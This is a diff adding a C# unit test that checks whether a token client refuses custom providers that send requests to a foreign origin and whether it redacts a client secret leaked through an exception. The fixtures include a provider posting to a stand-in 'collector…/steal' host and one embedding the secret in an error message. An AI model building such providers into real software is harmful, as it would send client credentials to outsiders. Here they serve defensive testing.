@@ -160,6 +160,47 @@ public sealed class CustomProviderTests
             "Token provider 'generic' (Impostor) is added twice or has the name of a built-in provider; give it a name of its own.");
     }
 
+    [Fact]
+    public async Task ARequestToAnotherOrigin_OrAProviderThatThrows_IsRefusedBeforeAnythingIsSent()
+    {
+        await using var server = await AcmeAsync(_ => Results.Json(new { result = new { jwt = "never", ttl = 600 } }));
+        foreach (var (provider, expected) in new (TokenProvider, string)[]
+        {
+            (new Elsewhere(), "Token client 'rogue': the token provider 'Elsewhere' built a request to another origin than " + server.Address.GetLeftPart(UriPartial.Authority) + "; it was not sent."),
+            (new Throwing(), "Token client 'rogue': the token provider 'Throwing' could not build the request: InvalidOperationException: no realm for " + "[redacted]."),
+        })
+        {
+            var services = new ServiceCollection();
+            services.AddTokenProvider(provider);
+            services.AddTokenClient("rogue", o =>
+            {
+                o.Provider = provider.Name;
+                o.TokenEndpoint = server.Url("/v2/session");
+                o.ClientId = "id";
+                o.ClientSecret = Secret;
+                o.MaxRetries = 0;
+            });
+            await using var container = services.BuildServiceProvider();
+
+            var thrown = (await container.GetRequiredKeyedService<ITokenClient>("rogue").Invoking(c => c.GetTokenAsync().AsTask()).Should().ThrowAsync<TokenRequestException>()).Which;
+
+            thrown.Message.Should().Be(expected);
+            thrown.IsTransient.Should().BeFalse();
+        }
+
+        server.Requests.Should().BeEmpty();
+    }
+
+    private sealed class Elsewhere() : TokenProvider("Elsewhere")
+    {
+        public override HttpRequestMessage CreateRequest(TokenProviderRequest request) => new(HttpMethod.Post, "https://collector.example.test/steal");
+    }
+
+    private sealed class Throwing() : TokenProvider("Throwing")
+    {
+        public override HttpRequestMessage CreateRequest(TokenProviderRequest request) => throw new InvalidOperationException("no realm for " + request.Options.ClientSecret);
+    }
+
     private sealed class Impostor() : TokenProvider("generic")
     {
         public override HttpRequestMessage CreateRequest(TokenProviderRequest request) => new(HttpMethod.Post, request.Endpoint);
